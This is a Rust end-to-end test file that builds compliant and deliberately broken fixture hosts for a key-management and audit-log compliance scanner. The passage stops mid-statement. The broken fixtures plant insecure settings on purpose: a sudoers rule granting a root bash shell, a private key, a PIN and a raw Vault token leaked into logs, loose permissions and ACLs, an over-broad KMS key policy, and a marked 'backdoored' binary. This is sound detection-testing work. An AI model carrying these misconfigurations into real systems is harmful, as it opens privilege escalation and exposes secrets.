//! End-to-end tests of the bundled CCM LOG-11 benchmark: fixture hosts are built under
//! temporary roots (real files, ACLs set with setfacl, keys and certificates made with
//! openssl, audit logs in the auditd, Vault and CloudTrail formats), then scanned with
//! `vigil scan --policy <the example policy> --root <fixture>`. Every rule passes on the
//! compliant host and fails on at least one broken host, and the failing items carry
//! the evidence.
//!
//! The fixtures set owners and the append-only flag, so they need root; run as another
//! user, the tests say so and stop.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::process::Command;

use serde_json::Value;

pub(crate) const BENCH: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/content/ccm-log11/vigil-ccm-log11-xccdf.xml"
);
const EXAMPLE_POLICY: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/content/ccm-log11/policy.example.toml"
);

fn now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64
}

fn rfc3339(t: i64) -> String {
    let out = crate::tool("date")
        .args(["-u", "-d", &format!("@{t}"), "+%Y-%m-%dT%H:%M:%SZ"])
        .output()
        .unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

fn date_days_ago(days: i64) -> String {
    let out = crate::tool("date")
        .args([
            "-u",
            "-d",
            &format!("@{}", now() - days * 86400),
            "+%Y-%m-%d",
        ])
        .output()
        .unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

fn run(cmd: &str, args: &[&str]) {
    let out = crate::tool(cmd)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("{cmd}: {e}"));
    assert!(
        out.status.success(),
        "{cmd} {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn md5_hex(data: &[u8]) -> String {
    let out = crate::tool("md5sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            use std::io::Write;
            c.stdin.take().unwrap().write_all(data)?;
            c.wait_with_output()
        })
        .unwrap();
    String::from_utf8(out.stdout).unwrap()[..32].to_string()
}

fn sha256_hex(data: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(data)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// What a broken fixture breaks.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Break {
    // keys
    SubstitutedKey,
    ModifiedPackageFile,
    LooseMode,
    ExtraAcl,
    StrayKey,
    DestroyedKeyPresent,
    WeakKey,
    OldKey,
    ExpiringCert,
    ExpiredCert,
    MissingKey,
    // roles
    AuditorInKeyAdmins,
    SudoRootShell,
    GhostMember,
    KeyAdminWritesLog,
    AwsAdminUses,
    InactiveMember,
    // logs
    NotAppendOnly,
    RawVault,
    SecretsInLogs,
    StaleTrail,
    IncompleteRecords,
    LooseLogMode,
    ShortRetention,
    WrongSiem,
    NoAuditWatches,
    DeniedSpike,
    UnallowedDeletion,
    UnallowedPolicyChange,
    MissingSource,
    // software and standard checks
    OldVault,
    TamperedBinary,
    NoAuditd,
    OpenAuditDir,
}

// The broken hosts the area tests below build (and the every-rule-says-why test
// reuses), one set of breaks per area.
pub(crate) const KEY_BREAKS: &[Break] = &[
    Break::SubstitutedKey,
    Break::LooseMode,
    Break::ExtraAcl,
    Break::StrayKey,
    Break::DestroyedKeyPresent,
];

pub(crate) const KEY_LIFE_BREAKS: &[Break] = &[
    Break::WeakKey,
    Break::OldKey,
    Break::ExpiringCert,
    Break::ExpiredCert,
    Break::MissingKey,
];

pub(crate) const ROLE_BREAKS: &[Break] = &[
    Break::AuditorInKeyAdmins,
    Break::SudoRootShell,
    Break::GhostMember,
    Break::KeyAdminWritesLog,
    Break::AwsAdminUses,
    Break::InactiveMember,
];

pub(crate) const LOG_BREAKS: &[Break] = &[
    Break::NotAppendOnly,
    Break::RawVault,
    Break::SecretsInLogs,
    Break::StaleTrail,
    Break::IncompleteRecords,
    Break::LooseLogMode,
    Break::ShortRetention,
    Break::WrongSiem,
    Break::NoAuditWatches,
    Break::DeniedSpike,
    Break::UnallowedDeletion,
    Break::UnallowedPolicyChange,
    Break::MissingSource,
];

pub(crate) const SOFTWARE_BREAKS: &[Break] = &[
    Break::OldVault,
    Break::TamperedBinary,
    Break::NoAuditd,
    Break::OpenAuditDir,
    Break::ModifiedPackageFile,
];

pub(crate) const STANDARD_BREAKS: &[Break] =
    &[Break::NoAuditd, Break::OpenAuditDir, Break::NoAuditWatches];

/// Every fixture host the tests build: the compliant one and one per area broken.
const FIXTURE_HOSTS: &[(&str, &[Break])] = &[
    ("compliant host", &[]),
    ("tampered keys", KEY_BREAKS),
    ("weak, old and expiring keys", KEY_LIFE_BREAKS),
    ("broken role separation", ROLE_BREAKS),
    ("broken audit logs", LOG_BREAKS),
    ("outdated or modified software", SOFTWARE_BREAKS),
    ("no audit daemon", STANDARD_BREAKS),
];

pub(crate) struct Fixture {
    pub(crate) _dir: tempfile::TempDir,
    pub(crate) root: PathBuf,
    pub(crate) policy: PathBuf,
    pub(crate) append_only: Vec<PathBuf>,
}

impl Drop for Fixture {
    fn drop(&mut self) {
        // The temporary directory cannot be removed while a file is append-only.
        for p in &self.append_only {
            let _ = crate::tool("chattr").arg("-a").arg(p).status();
        }
    }
}

struct Builder {
    dir: tempfile::TempDir,
    root: PathBuf,
    breaks: Vec<Break>,
    append_only: Vec<PathBuf>,
}

impl Builder {
    fn has(&self, b: Break) -> bool {
        self.breaks.contains(&b)
    }

    fn p(&self, host: &str) -> PathBuf {
        self.root.join(host.trim_start_matches('/'))
    }

    fn s(&self, host: &str) -> String {
        self.p(host).to_string_lossy().to_string()
    }

    fn write(&self, host: &str, data: impl AsRef<[u8]>) {
        let p = self.p(host);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, data).unwrap();
    }

    fn dir(&self, host: &str, mode: u32, uid: u32, gid: u32) {
        let p = self.p(host);
        std::fs::create_dir_all(&p).unwrap();
        self.own(host, mode, uid, gid);
    }

    fn own(&self, host: &str, mode: u32, uid: u32, gid: u32) {
        use std::os::unix::fs::PermissionsExt;
        let p = self.p(host);
        std::os::unix::fs::chown(&p, Some(uid), Some(gid)).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
    }

    fn setfacl(&self, host: &str, spec: &str) {
        run("setfacl", &["-m", spec, &self.s(host)]);
    }

    fn openssl(&self, args: &[&str]) {
        run("openssl", args);
    }

    fn genkey(&self, host: &str, alg: &str) {
        let p = self.p(host);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        let out = self.s(host);
        match alg {
            "rsa3072" => self.openssl(&[
                "genpkey",
                "-algorithm",
                "RSA",
                "-pkeyopt",
                "rsa_keygen_bits:3072",
                "-out",
                &out,
            ]),
            "rsa2048" => self.openssl(&[
                "genpkey",
                "-algorithm",
                "RSA",
                "-pkeyopt",
                "rsa_keygen_bits:2048",
                "-out",
                &out,
            ]),
            "p256" => self.openssl(&[
                "genpkey",
                "-algorithm",
                "EC",
                "-pkeyopt",
                "ec_paramgen_curve:P-256",
                "-out",
                &out,
            ]),
            "p384" => self.openssl(&[
                "genpkey",
                "-algorithm",
                "EC",
                "-pkeyopt",
                "ec_paramgen_curve:P-384",
                "-out",
                &out,
            ]),
            "ed25519" => self.openssl(&["genpkey", "-algorithm", "ED25519", "-out", &out]),
            _ => unreachable!(),
        }
    }

    /// A certificate for `key`, valid from `start` to `end` (openssl ca dates,
    /// YYYYMMDDHHMMSSZ), self-signed.
    fn cert(&self, key: &str, cn: &str, out: &str, start: &str, end: &str) {
        let ca = self.dir.path().join(format!("ca-{cn}"));
        std::fs::create_dir_all(&ca).unwrap();
        std::fs::write(ca.join("index.txt"), "").unwrap();
        std::fs::write(ca.join("serial"), "01\n").unwrap();
        std::fs::write(
            ca.join("ca.cnf"),
            format!(
                "[ca]\ndefault_ca = d\n[d]\ndir = {0}\ndatabase = {0}/index.txt\nnew_certs_dir = {0}\nserial = {0}/serial\ndefault_md = sha256\npolicy = p\n[p]\ncommonName = supplied\n",
                ca.display()
            ),
        )
        .unwrap();
        let csr = ca.join("r.csr");
        self.openssl(&[
            "req",
            "-new",
            "-key",
            &self.s(key),
            "-subj",
            &format!("/CN={cn}"),
            "-out",
            csr.to_str().unwrap(),
        ]);
        std::fs::create_dir_all(self.p(out).parent().unwrap()).unwrap();
        self.openssl(&[
            "ca",
            "-batch",
            "-notext",
            "-config",
            ca.join("ca.cnf").to_str().unwrap(),
            "-selfsign",
            "-keyfile",
            &self.s(key),
            "-in",
            csr.to_str().unwrap(),
            "-startdate",
            start,
            "-enddate",
            end,
            "-out",
            &self.s(out),
        ]);
    }

    fn spki_sha256(&self, key: &str) -> String {
        let out = crate::tool("openssl")
            .args(["pkey", "-pubout", "-outform", "DER", "-in", &self.s(key)])
            .output()
            .unwrap();
        assert!(out.status.success());
        sha256_hex(&out.stdout)
    }

    /// The baseline `vigil baseline create` makes of `paths`, written to `out`, as it
    /// would be made on the image's own host: `vigil baseline` records paths as this
    /// machine sees them (under the fixture's root), and the scan reads the image under
    /// `--root`, so the root prefix is taken off every recorded path and nothing else is
    /// touched.
    fn baseline_create(&self, out: &str, paths: &[&str]) {
        let made = self.dir.path().join("kms.baseline.made");
        let run = Command::new(env!("CARGO_BIN_EXE_vigil"))
            .args(["baseline", "create", "--out"])
            .arg(&made)
            .args(paths.iter().map(|p| self.p(p)))
            .output()
            .unwrap();
        assert!(
            run.status.success(),
            "{}",
            String::from_utf8_lossy(&run.stderr)
        );
        let mut doc: Value = serde_json::from_slice(&std::fs::read(&made).unwrap()).unwrap();
        std::fs::remove_file(&made).unwrap();
        let root = self
            .root
            .to_str()
            .unwrap()
            .trim_end_matches('/')
            .to_string();
        let relocate = |v: &mut Value| {
            let p = v.as_str().unwrap();
            let host = p
                .strip_prefix(&root)
                .unwrap_or_else(|| panic!("{p} not under {root}"));
            *v = Value::from(host);
        };
        doc["roots"]
            .as_array_mut()
            .unwrap()
            .iter_mut()
            .for_each(relocate);
        for e in doc["entries"].as_array_mut().unwrap() {
            relocate(&mut e["path"]);
        }
        self.write(out, serde_json::to_vec_pretty(&doc).unwrap());
    }

    fn file_sha256(&self, host: &str) -> String {
        sha256_hex(&std::fs::read(self.p(host)).unwrap())
    }
}

fn openssl_date(t: i64) -> String {
    let out = crate::tool("date")
        .args(["-u", "-d", &format!("@{t}"), "+%Y%m%d%H%M%SZ"])
        .output()
        .unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// Sets `field = value` inside the `[[keys]]` block named `key` (replacing the line if
/// the block has it, adding it after the name otherwise).
pub(crate) fn set_key_field(policy: &str, key: &str, field: &str, value: &str) -> String {
    let marker = format!("name = \"{key}\"");
    let start = policy
        .find(&marker)
        .unwrap_or_else(|| panic!("no key {key}"));
    let end = policy[start..]
        .find("\n[")
        .map(|e| start + e)
        .unwrap_or(policy.len());
    let block = &policy[start..end];
    let line_start = block
        .lines()
        .find(|l| l.starts_with(&format!("{field} = ")));
    let new_block = match line_start {
        Some(l) => block.replacen(l, &format!("{field} = {value}"), 1),
        None => block.replacen(&marker, &format!("{marker}\n{field} = {value}"), 1),
    };
    format!("{}{}{}", &policy[..start], new_block, &policy[end..])
}

pub(crate) fn build(breaks: &[Break]) -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    std::fs::create_dir_all(&root).unwrap();
    let mut b = Builder {
        root,
        dir,
        breaks: breaks.to_vec(),
        append_only: Vec::new(),
    };
    let t = now();

    // ---- accounts ----
    b.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nvault:x:999:999:Vault:/var/lib/vault:/usr/sbin/nologin\nalice:x:1001:1001::/home/alice:/bin/bash\nbob:x:1002:1002::/home/bob:/bin/bash\ncarol:x:1003:1003::/home/carol:/bin/bash\ndave:x:1004:1004::/home/dave:/bin/bash\n");
    let auditors = if b.has(Break::AuditorInKeyAdmins) {
        "alice,bob"
    } else {
        "alice"
    };
    b.write(
        "/etc/group",
        format!("root:x:0:\nvault:x:999:\nalice:x:1001:\nbob:x:1002:\ncarol:x:1003:\ndave:x:1004:\nkeyadmins:x:2001:{auditors}\nauditors:x:2002:bob\nkmsusers:x:2003:vault\n"),
    );
    let mut sudoers = "root ALL=(ALL:ALL) ALL\n%auditors ALL=(root) NOPASSWD: /usr/sbin/ausearch\nalice ALL=(root) /usr/bin/systemctl restart vault\n".to_string();
    if b.has(Break::SudoRootShell) {
        sudoers.push_str("bob ALL=(ALL) /bin/bash\n");
    }
    b.write("/etc/sudoers", sudoers);

    // ---- keys ----
    let rsa = if b.has(Break::WeakKey) {
        "rsa2048"
    } else {
        "rsa3072"
    };
    b.dir("/etc/vault.d/tls", 0o750, 999, 999);
    b.genkey("/etc/vault.d/tls/vault.key", rsa);
    b.own("/etc/vault.d/tls/vault.key", 0o640, 999, 999);
    b.setfacl("/etc/vault.d/tls/vault.key", "g:2003:r--");
    let (start, end) = if b.has(Break::ExpiringCert) {
        (t - 86400, t + 10 * 86400)
    } else {
        (t - 86400, t + 300 * 86400)
    };
    b.cert(
        "/etc/vault.d/tls/vault.key",
        "vault.example.net",
        "/etc/vault.d/tls/vault.crt",
        &openssl_date(start),
        &openssl_date(end),
    );

    b.dir("/etc/kms/keys", 0o750, 0, 2001);
    b.genkey("/etc/kms/keys/signing.pem", "p256");
    let signing_sha = b.file_sha256("/etc/kms/keys/signing.pem");
    if b.has(Break::SubstitutedKey) {
        b.genkey("/etc/kms/keys/signing.pem", "p256");
    }
    b.own("/etc/kms/keys/signing.pem", 0o640, 0, 2001);
    b.setfacl("/etc/kms/keys/signing.pem", "u:999:r--");
    if b.has(Break::ExtraAcl) {
        b.setfacl("/etc/kms/keys/signing.pem", "u:1002:r--");
    }
    if !b.has(Break::MissingKey) {
        b.genkey("/etc/kms/keys/backup.key", "ed25519");
        b.own(
            "/etc/kms/keys/backup.key",
            if b.has(Break::LooseMode) {
                0o644
            } else {
                0o600
            },
            0,
            0,
        );
    }
    if b.has(Break::StrayKey) {
        b.genkey("/etc/kms/keys/stray.pem", "rsa2048");
        run(
            "openssl",
            &[
                "pkey",
                "-in",
                &b.s("/etc/kms/keys/stray.pem"),
                "-traditional",
                "-out",
                &b.s("/etc/kms/keys/stray-copy.key"),
            ],
        );
    }
    if b.has(Break::DestroyedKeyPresent) {
        b.genkey("/etc/kms/keys/old-signing.pem", "p256");
    }
    // A public certificate in the key directory is not a private key.
    b.genkey(&format!("{}/hsm.key", "/tmp-keys"), "p384");
    let (hs, he) = if b.has(Break::ExpiredCert) {
        ("20200101000000Z".to_string(), "20200201000000Z".to_string())
    } else {
        (openssl_date(t - 86400), openssl_date(t + 400 * 86400))
    };
    b.cert(
        "/tmp-keys/hsm.key",
        "hsm-root",
        "/etc/kms/certs/hsm-root.crt",
        &hs,
        &he,
    );
    std::fs::remove_dir_all(b.p("/tmp-keys")).unwrap();

    // ---- audit logs ----
    b.dir(
        "/var/log/audit",
        if b.has(Break::OpenAuditDir) {
            0o755
        } else {
            0o750
        },
        0,
        0,
    );
    let mut auditd = String::new();
    let mut serial = 100;
    let mut ev = |auditd: &mut String, t: i64, uid: u32, ok: bool, path: &str| {
        serial += 1;
        let (succ, exit) = if ok { ("yes", "3") } else { ("no", "-13") };
        auditd.push_str(&format!("type=SYSCALL msg=audit({t}.123:{serial}): arch=c000003e syscall=257 success={succ} exit={exit} auid={uid} uid={uid} gid={uid} comm=\"cat\" exe=\"/usr/bin/cat\" key=\"kms-keys\"\ntype=PATH msg=audit({t}.123:{serial}): item=0 name=\"{path}\" nametype=NORMAL\n"));
    };
    ev(
        &mut auditd,
        t - 3000,
        1001,
        true,
        "/etc/kms/keys/signing.pem",
    );
    ev(
        &mut auditd,
        t - 2500,
        999,
        true,
        "/etc/vault.d/tls/vault.key",
    );
    ev(
        &mut auditd,
        t - 2000,
        1002,
        false,
        "/etc/kms/keys/signing.pem",
    );
    ev(
        &mut auditd,
        t - 1000,
        1002,
        false,
        "/etc/vault.d/tls/vault.key",
    );
    if b.has(Break::DeniedSpike) {
        for i in 0..8 {
            ev(
                &mut auditd,
                t - 900 + i * 10,
                1003,
                false,
                "/etc/kms/keys/signing.pem",
            );
        }
    }
    if b.has(Break::IncompleteRecords) {
        auditd.push_str(&format!(
            "type=PROCTITLE msg=audit({}.000:9999): proctitle=636174\n",
            t - 500
        ));
    }
    b.write("/var/log/audit/audit.log", auditd);
    b.own(
        "/var/log/audit/audit.log",
        if b.has(Break::LooseLogMode) {
            0o644
        } else {
            0o600
        },
        0,
        0,
    );
    if b.has(Break::KeyAdminWritesLog) {
        b.setfacl("/var/log/audit/audit.log", "u:1001:rw-");
    }
    if b.has(Break::InactiveMember) {
        // An old rotated log shows how far back the records reach.
        b.write("/var/log/audit/audit.log.1", format!("type=DAEMON_START msg=audit({}.000:1): op=start auid=4294967295 uid=0 res=success\n", t - 100 * 86400));
        b.own("/var/log/audit/audit.log.1", 0o600, 0, 0);
    }
    b.write(
        "/etc/audit/auditd.conf",
        "log_file = /var/log/audit/audit.log\nmax_log_file_action = keep_logs\ndisk_full_action = single\ndisk_error_action = halt\n",
    );
    b.write(
        "/etc/default/grub",
        "GRUB_DEFAULT=0\nGRUB_CMDLINE_LINUX=\"quiet audit=1 audit_backlog_limit=8192\"\n",
    );

    b.dir("/var/log/vault", 0o750, 999, 999);
    let vault_rec = |time: i64,
                     id: &str,
                     user: &str,
                     policy: &str,
                     op: &str,
                     path: &str,
                     token: &str,
                     error: Option<&str>|
     -> String {
        let err = error
            .map(|e| format!(",\"error\":\"{e}\""))
            .unwrap_or_default();
        let auth = format!(
            "\"auth\":{{\"client_token\":\"{token}\",\"accessor\":\"hmac-sha256:acc\",\"display_name\":\"userpass-{user}\",\"policies\":[\"default\",\"{policy}\"],\"metadata\":{{\"username\":\"{user}\"}}}}"
        );
        format!(
            "{{\"time\":\"{}\",\"type\":\"request\",{auth},\"request\":{{\"id\":\"{id}\",\"operation\":\"{op}\",\"path\":\"{path}\",\"client_token\":\"{token}\"}}{err}}}\n{{\"time\":\"{}\",\"type\":\"response\",{auth},\"request\":{{\"id\":\"{id}\",\"operation\":\"{op}\",\"path\":\"{path}\"}},\"response\":{{}}{err}}}\n",
            rfc3339(time),
            rfc3339(time + 1)
        )
    };
    let h = "hmac-sha256:5f0c";
    let mut vault = String::new();
    vault.push_str(&vault_rec(
        t - 1800,
        "r1",
        "alice",
        "kms-admin",
        "update",
        "transit/keys/app/rotate",
        h,
        None,
    ));
    vault.push_str(&vault_rec(
        t - 1200,
        "r2",
        "vault",
        "app-encrypt",
        "update",
        "transit/encrypt/app",
        h,
        None,
    ));
    vault.push_str(&vault_rec(
        t - 600,
        "r3",
        "bob",
        "audit-reader",
        "read",
        "sys/audit",
        h,
        None,
    ));
    vault.push_str(&vault_rec(
        t - 300,
        "r4",
        "alice",
        "kms-admin",
        "delete",
        "transit/keys/retired",
        h,
        None,
    ));
    if b.has(Break::RawVault) {
        vault.push_str(&vault_rec(
            t - 200,
            "r5",
            "vault",
            "app-encrypt",
            "update",
            "transit/encrypt/app",
            "hvs.CAESIrawtoken",
            None,
        ));
    }
    if b.has(Break::UnallowedDeletion) {
        vault.push_str(&vault_rec(
            t - 100,
            "r6",
            "carol",
            "app-encrypt",
            "delete",
            "transit/keys/app",
            h,
            None,
        ));
    }
    b.write("/var/log/vault/audit.log", vault);
    b.own("/var/log/vault/audit.log", 0o600, 999, 999);
    if !b.has(Break::NotAppendOnly) {
        run("chattr", &["+a", &b.s("/var/log/vault/audit.log")]);
        b.append_only.push(b.p("/var/log/vault/audit.log"));
    }

    b.dir("/var/log/cloudtrail", 0o750, 0, 0);
    let trail_t = if b.has(Break::StaleTrail) {
        t - 3 * 86400
    } else {
        t
    };
    let ct = |time: i64,
              name: &str,
              arn: &str,
              role_session: bool,
              error: Option<&str>|
     -> String {
        let ident = if role_session {
            let role = arn.rsplit('/').next().unwrap();
            format!(
                "{{\"type\":\"AssumedRole\",\"arn\":\"arn:aws:sts::111122223333:assumed-role/{role}/s1\",\"sessionContext\":{{\"sessionIssuer\":{{\"type\":\"Role\",\"arn\":\"{arn}\"}}}}}}"
            )
        } else {
            format!("{{\"type\":\"IAMUser\",\"arn\":\"{arn}\"}}")
        };
        let err = error
            .map(|e| format!(",\"errorCode\":\"{e}\""))
            .unwrap_or_default();
        format!(
            "{{\"eventVersion\":\"1.08\",\"userIdentity\":{ident},\"eventTime\":\"{}\",\"eventSource\":\"kms.amazonaws.com\",\"eventName\":\"{name}\",\"awsRegion\":\"eu-west-1\",\"requestParameters\":{{\"keyId\":\"1234abcd-12ab-34cd-56ef-1234567890ab\"}}{err}}}",
            rfc3339(time)
        )
    };
    let mut recs = vec![
        ct(
            trail_t - 3000,
            "Decrypt",
            "arn:aws:iam::111122223333:role/AppRole",
            true,
            None,
        ),
        ct(
            trail_t - 2000,
            "ScheduleKeyDeletion",
            "arn:aws:iam::111122223333:role/KeyAdmin",
            true,
            None,
        ),
        ct(
            trail_t - 1500,
            "PutKeyPolicy",
            "arn:aws:iam::111122223333:role/KeyAdmin",
            true,
            None,
        ),
        ct(
            trail_t - 1000,
            "ListKeys",
            "arn:aws:iam::111122223333:role/Auditor",
            true,
            None,
        ),
    ];
    if b.has(Break::UnallowedDeletion) {
        recs.push(ct(
            trail_t - 500,
            "DisableKey",
            "arn:aws:iam::111122223333:role/AppRole",
            true,
            None,
        ));
    }
    if b.has(Break::UnallowedPolicyChange) {
        recs.push(ct(
            trail_t - 400,
            "PutKeyPolicy",
            "arn:aws:iam::111122223333:role/AppRole",
            true,
            None,
        ));
    }
    b.write(
        "/var/log/cloudtrail/kms-events.json",
        format!("{{\"Records\":[{}]}}\n", recs.join(",")),
    );
    b.own("/var/log/cloudtrail/kms-events.json", 0o640, 0, 0);

    let rotate = if b.has(Break::ShortRetention) { 4 } else { 60 };
    b.write(
        "/etc/logrotate.conf",
        "weekly\nrotate 4\ninclude /etc/logrotate.d\n",
    );
    b.write(
        "/etc/logrotate.d/vault",
        format!("/var/log/vault/audit.log {{\n    weekly\n    rotate {rotate}\n    compress\n}}\n"),
    );
    b.write(
        "/etc/logrotate.d/cloudtrail",
        "/var/log/cloudtrail/*.json {\n    monthly\n    rotate 13\n}\n",
    );

    let mut kmslog = "2026-01-01T00:00:00Z kms-agent: started\n".to_string();
    if b.has(Break::SecretsInLogs) {
        kmslog.push_str("2026-01-01T00:00:01Z kms-agent: loaded key\n-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END PRIVATE KEY-----\n");
        kmslog.push_str(
            "2026-01-01T00:00:02Z kms-agent: token login pkcs11:token=kms-hsm?pin-value=918273\n",
        );
    }
    b.write("/var/log/kms/agent.log", kmslog);

    // ---- forwarding and audit rules ----
    let siem = if b.has(Break::WrongSiem) {
        "logs.elsewhere.example"
    } else {
        "siem.example.net"
    };
    b.write(
        "/etc/rsyslog.conf",
        "module(load=\"imuxsock\")\n$IncludeConfig /etc/rsyslog.d/*.conf\n",
    );
    if !b.has(Break::NoAuditd) {
        b.write(
            "/etc/rsyslog.d/60-siem.conf",
            format!("*.* @@{siem}:6514\n"),
        );
        b.write(
            "/etc/audit/plugins.d/au-remote.conf",
            format!(
                "active = {}\ndirection = out\npath = /sbin/audisp-remote\n",
                if b.has(Break::WrongSiem) { "no" } else { "yes" }
            ),
        );
        b.write(
            "/etc/audit/audisp-remote.conf",
            format!("remote_server = {siem}\nport = 6514\n"),
        );
    }
    // The services enabled as `systemctl enable` leaves them: a link in a *.wants/
    // directory, which is what the forwarder rules read offline.
    let wants = b.p("/etc/systemd/system/multi-user.target.wants");
    std::fs::create_dir_all(&wants).unwrap();
    let mut units = vec!["rsyslog.service"];
    if !b.has(Break::NoAuditd) {
        units.push("auditd.service");
    }
    for unit in units {
        b.write(
            &format!("/lib/systemd/system/{unit}"),
            format!("[Unit]\nDescription={unit}\n"),
        );
        std::os::unix::fs::symlink(format!("/lib/systemd/system/{unit}"), wants.join(unit))
            .unwrap();
    }
    let mut rules = String::from("-D\n");
    if !b.has(Break::NoAuditWatches) {
        rules.push_str("-w /etc/audit/ -p wa -k auditconfig\n-w /etc/kms/keys -p rwa -k kms-keys\n-w /etc/vault.d/tls -p rwa -k kms-keys\n-a always,exit -F arch=b64 -F path=/etc/vault.d/vault.hcl -F perm=wa -k kms-config\n-w /usr/bin/vault -p wa -k kms-bin\n-w /opt/kms-agent/bin -p wa -k kms-bin\n-e 2\n");
    }
    b.write("/etc/audit/rules.d/kms.rules", rules);

    // ---- software ----
    let vault_version = if b.has(Break::OldVault) {
        "1.14.0-1"
    } else {
        "1.15.4-1"
    };
    let mut status = format!(
        "Package: vault\nStatus: install ok installed\nArchitecture: amd64\nVersion: {vault_version}\n\nPackage: openssl\nStatus: install ok installed\nArchitecture: amd64\nVersion: 3.0.15-1~deb12u1\n\n"
    );
    if !b.has(Break::NoAuditd) {
        status.push_str("Package: auditd\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:3.0.9-1\n\n");
    }
    b.write("/var/lib/dpkg/status", status);
    // What the packages shipped, as dpkg --verify reads it.
    for pkg in ["openssl", "auditd", "vault"] {
        let doc = format!("/usr/share/doc/{pkg}/copyright");
        let text = format!("{pkg}: upstream copyright notice\n");
        b.write(&doc, &text);
        let sum = if b.has(Break::ModifiedPackageFile) && pkg == "openssl" {
            "0".repeat(32)
        } else {
            md5_hex(text.as_bytes())
        };
        b.write(
            &format!("/var/lib/dpkg/info/{pkg}.md5sums"),
            format!("{sum}  {}\n", doc.trim_start_matches('/')),
        );
    }
    b.write("/usr/bin/vault", b"\x7fELF vault 1.15.4 binary".as_slice());
    b.own("/usr/bin/vault", 0o755, 0, 0);
    b.write("/etc/vault.d/vault.hcl", "storage \"raft\" { path = \"/var/lib/vault\" }\nlistener \"tcp\" { tls_cert_file = \"/etc/vault.d/tls/vault.crt\" }\n");
    b.own("/etc/vault.d/vault.hcl", 0o640, 0, 999);
    // A hardened Vault server (HashiCorp's production hardening guide): its own user,
    // no core dumps, storage closed to others, two audit devices (the file device of
    // /var/log/vault/audit.log and one to stdout, which the journal keeps).
    b.write(
        "/lib/systemd/system/vault.service",
        "[Service]\nUser=vault\nGroup=vault\nExecStart=/usr/bin/vault server -config=/etc/vault.d/vault.hcl\nLimitCORE=0\n",
    );
    b.dir("/var/lib/vault", 0o700, 999, 999);
    b.write(
        "/var/lib/vigil/vault-audit.json",
        r#"{"file/":{"type":"file","options":{"file_path":"/var/log/vault/audit.log","mode":"0600"}},"journal/":{"type":"file","options":{"file_path":"stdout"}}}"#,
    );
    b.write("/opt/kms-agent/VERSION", "2.5.1\n");
    b.write(
        "/opt/kms-agent/bin/kms-agent",
        "#!/bin/sh\nexec /opt/kms-agent/lib/agent\n",
    );
    b.own("/opt/kms-agent/bin/kms-agent", 0o755, 0, 0);
    b.baseline_create(
        "/var/lib/vigil/kms.baseline",
        &[
            "/usr/bin/vault",
            "/etc/vault.d/vault.hcl",
            "/opt/kms-agent/bin",
        ],
    );
    if b.has(Break::TamperedBinary) {
        b.write(
            "/usr/bin/vault",
            b"\x7fELF vault 1.15.4 binary with a backdoor".as_slice(),
        );
        b.own("/usr/bin/vault", 0o755, 0, 0);
    }

    let admin_actions = if b.has(Break::AwsAdminUses) {
        "\"kms:*\""
    } else {
        "\"kms:Create*\",\"kms:Describe*\",\"kms:Enable*\",\"kms:List*\",\"kms:Put*\",\"kms:Update*\",\"kms:Revoke*\",\"kms:Disable*\",\"kms:Get*\",\"kms:Delete*\",\"kms:ScheduleKeyDeletion\",\"kms:CancelKeyDeletion\""
    };
    b.write(
        "/etc/kms/aws/app-key-policy.json",
        format!(
            "{{\"Version\":\"2012-10-17\",\"Id\":\"key-policy\",\"Statement\":[\n {{\"Sid\":\"Admins\",\"Effect\":\"Allow\",\"Principal\":{{\"AWS\":\"arn:aws:iam::111122223333:role/KeyAdmin\"}},\"Action\":[{admin_actions}],\"Resource\":\"*\"}},\n {{\"Sid\":\"Use\",\"Effect\":\"Allow\",\"Principal\":{{\"AWS\":\"arn:aws:iam::111122223333:role/AppRole\"}},\"Action\":[\"kms:Encrypt\",\"kms:Decrypt\",\"kms:ReEncrypt*\",\"kms:GenerateDataKey*\",\"kms:DescribeKey\"],\"Resource\":\"*\"}},\n {{\"Sid\":\"Audit\",\"Effect\":\"Allow\",\"Principal\":{{\"AWS\":\"arn:aws:iam::111122223333:role/Auditor\"}},\"Action\":[\"kms:Describe*\",\"kms:List*\",\"kms:GetKeyPolicy\"],\"Resource\":\"*\"}}]}}\n"
        ),
    );

    // ---- the example policy, with this host's fingerprints and dates ----
    let mut pol = std::fs::read_to_string(EXAMPLE_POLICY).unwrap();
    pol = set_key_field(
        &pol,
        "vault-tls",
        "sha256",
        &format!("\"{}\"", b.file_sha256("/etc/vault.d/tls/vault.key")),
    );
    pol = set_key_field(
        &pol,
        "vault-tls",
        "spki_sha256",
        &format!("\"{}\"", b.spki_sha256("/etc/vault.d/tls/vault.key")),
    );
    pol = set_key_field(&pol, "signing", "sha256", &format!("\"{signing_sha}\""));
    for k in ["vault-tls", "signing", "backup-wrap"] {
        let age = if b.has(Break::OldKey) && k == "backup-wrap" {
            400
        } else {
            10
        };
        pol = set_key_field(&pol, k, "created", &date_days_ago(age));
    }
    if b.has(Break::GhostMember) {
        pol = pol.replace(
            "unix_users = [\"bob\"]",
            "unix_users = [\"bob\", \"ghost\"]",
        );
    }
    if b.has(Break::InactiveMember) {
        pol = pol.replace(
            "unix_users = [\"vault\"]",
            "unix_users = [\"vault\", \"dave\"]",
        );
    }
    if b.has(Break::MissingSource) {
